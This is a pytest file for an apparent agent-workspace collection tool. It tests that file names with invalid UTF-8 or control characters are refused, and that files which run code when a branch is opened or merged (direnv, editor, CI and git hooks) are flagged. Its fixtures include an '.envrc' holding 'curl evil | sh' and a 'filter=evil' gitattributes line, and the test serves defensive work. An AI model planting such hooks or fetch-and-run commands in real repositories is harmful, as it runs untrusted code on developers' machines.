"""Collection and the report, with real git: names that are not UTF-8 (or hold C1
controls) are refused like names with control characters, and paths that make
other tools run code when the branch is opened or merged are flagged (issue 11.5)."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from test_collect_support import git, make_repo, prepare_in

from agentbox.collect import Limits, Report, collect

BASE = {
    "README.md": "hello\n",
    "src/app.py": "x = 1\n",
    ".gitattributes": "*.py text\n",
    ".pre-commit-config.yaml": "repos: []\n",
    ".gitignore": "*.log\nsecret.envrc.d/\n",
    "docs/.github.md": "not a workflow\n",
}


def _collect(p, **kw):  # type: ignore[no-untyped-def]
    return collect(p.ws, p.shadow, p.index, p.base, task_id="t-1", message="m", **kw)


def _tree(p, commit: str) -> set[str]:  # type: ignore[no-untyped-def]
    out = git(p.ws.parent, "--git-dir", str(p.shadow), "ls-tree", "-r", "-z", "--name-only", commit)
    return {x for x in out.split("\0") if x}


@pytest.fixture(params=[True, False], ids=["git-oracle", "fallback"])
def oracle(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    if not request.param:  # git diff-files "failed": every entry is judged by our own lstat
        from agentbox.collect import _collect as cmod

        monkeypatch.setattr(cmod, "_git_changed", lambda *a: None)
    return bool(request.param)


def test_names_not_utf8_or_with_c1_controls_are_refused(oracle: bool, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", BASE)
    p = prepare_in(tmp_path / "task", repo)
    ws = os.fsencode(p.ws)
    with open(ws + b"/bad-\xff.txt", "wb") as fh:  # not UTF-8
        fh.write(b"x\n")
    os.mkdir(ws + b"/dir-\xfe\xfd")  # a directory whose name is not UTF-8
    with open(ws + b"/dir-\xfe\xfd/inner.txt", "wb") as fh:
        fh.write(b"inner\n")
    (p.ws / "c1-\u009b31m.txt").write_text("C1 CSI in the name\n")  # valid UTF-8, a C1 control
    (p.ws / "caf\u00e9.txt").write_text("an ordinary non-ASCII name\n")
    got = _collect(p)
    reasons = {s.path: s.reason for s in got.skipped}
    assert "not valid UTF-8" in reasons["bad-\\xff.txt"], reasons
    assert "not valid UTF-8" in reasons["dir-\\xfe\\xfd"], reasons
    assert "control character" in reasons["c1-\\x9b31m.txt"], reasons
    tree = _tree(p, got.commit)
    assert tree == set(BASE) | {"caf\u00e9.txt"}, tree  # only the good name was collected
    for path in reasons:  # what is reported prints as plain text
        assert path.isprintable() and path.isascii(), path


def test_paths_that_run_code_are_flagged_above_the_rest(oracle: bool, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", BASE)
    p = prepare_in(tmp_path / "task", repo)
    ws = p.ws
    files = {
        ".envrc": "curl evil | sh\n",
        "sub/dir/.envrc": "echo nested\n",
        ".claude/settings.json": '{"hooks": {}}\n',
        ".claude/hooks/start.sh": "#!/bin/sh\n",
        ".mcp.json": "{}\n",
        ".vscode/tasks.json": "{}\n",
        ".vscode/settings.json": "{}\n",
        ".vscode/extensions.json": "{}\n",  # not flagged: recommends, runs nothing
        ".github/workflows/ci.yml": "on: push\n",
        ".github/CODEOWNERS": "* @x\n",  # not flagged
        ".devcontainer/devcontainer.json": "{}\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ../x\n',
        "pkg/.Gitattributes ": "* filter=evil\n",  # folded: .gitattributes on Windows/macOS
        "src/new.py": "y = 2\n",  # not flagged
    }
    for rel, content in files.items():
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(content)
    (ws / ".gitattributes").write_text("* filter=evil\n")  # modified
    (ws / ".pre-commit-config.yaml").unlink()  # deleted
    os.symlink("../docs", ws / ".vscode-link")  # not flagged
    got = _collect(p)
    assert got.changed
    report = Report(task_id="t-1", status="done")
    report.add_collected(got)
    flagged = {f.path: f.change for f in report.flagged}
    assert flagged == {
        ".envrc": "added",
        "sub/dir/.envrc": "added",
        ".claude/settings.json": "added",
        ".claude/hooks/start.sh": "added",
        ".mcp.json": "added",
        ".vscode/tasks.json": "added",
        ".vscode/settings.json": "added",
        ".github/workflows/ci.yml": "added",
        ".devcontainer/devcontainer.json": "added",
        ".gitmodules": "added",
        "pkg/.Gitattributes ": "added",
        ".gitattributes": "modified",
        ".pre-commit-config.yaml": "deleted",
    }, flagged
    reasons = {f.path: f.reason for f in report.flagged}
    assert "direnv" in reasons[".envrc"] and "hooks" in reasons[".claude/settings.json"]
    # The flags are the report's own field, not mixed into the notes.
    assert not [n for n in report.notes if "runs code" in n.reason]
    text = report.to_text()
    assert "runs code when the branch is opened or merged" in text
    assert "  added .envrc: direnv" in text and "  deleted .pre-commit-config.yaml" in text
    again = Report.model_validate_json(report.to_json())
    assert again.flagged == report.flagged


def test_flags_only_what_reached_the_commit(tmp_path: Path) -> None:
    """Touched but unchanged, ignored by .gitignore, or over the cap: nothing to flag."""
    repo = make_repo(tmp_path / "r", {**BASE, ".envrc": "export A=1\n"})
    p = prepare_in(tmp_path / "task", repo)
    ws = p.ws
    time.sleep(0.01)
    (ws / ".gitattributes").write_text(BASE[".gitattributes"])  # same bytes, new stat
    (ws / ".envrc").write_text("export A=1\n")
    (ws / "secret.envrc.d").mkdir()
    (ws / "secret.envrc.d/.envrc").write_text("ignored by .gitignore\n")
    (ws / ".mcp.json").write_bytes(b"x" * 2048)  # over the per-file cap below: skipped
    (ws / "README.md").write_text("changed\n")
    got = _collect(p, limits=Limits(max_file_size=1024))
    assert got.changed and "per-file cap" in {s.path: s.reason for s in got.skipped}[".mcp.json"]
    report = Report(task_id="t-1", status="done")
    report.add_collected(got)
    assert report.flagged == [], report.flagged


def test_a_truncated_diff_keeps_every_flag(tmp_path: Path) -> None:
    """The diff is cut at a cap: a flag is never dropped for not being in what was kept."""
    repo = make_repo(tmp_path / "r", BASE)
    p = prepare_in(tmp_path / "task", repo)
    (p.ws / "!big.txt").write_text("line\n" * 5000)  # sorts before every dot name
    (p.ws / "\u00e9t\u00e9").mkdir()
    (p.ws / "\u00e9t\u00e9/.envrc").write_text("echo hi\n")  # a quoted path in git's header
    got = _collect(p, limits=Limits(max_diff_bytes=1000))
    assert got.diff_truncated
    report = Report(task_id="t-1", status="done")
    report.add_collected(got)
    assert [f.path for f in report.flagged] == ["\u00e9t\u00e9/.envrc"]
    # And complete, the quoted header is matched too.
    got = _collect(p)
    assert not got.diff_truncated and '"a/\\303\\251t\\303\\251/.envrc"' in got.diff
    report.add_collected(got)
    assert [f.path for f in report.flagged] == ["\u00e9t\u00e9/.envrc"]


def test_no_changes_flags_nothing(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {**BASE, ".envrc": "x\n"})
    p = prepare_in(tmp_path / "task", repo)
    (p.ws / ".envrc").write_text("y\n")
    (p.ws / ".envrc").write_text("x\n")
    got = _collect(p)
    report = Report(task_id="t-1", status="done")
    report.add_collected(got)
    assert not got.changed and report.flagged == []
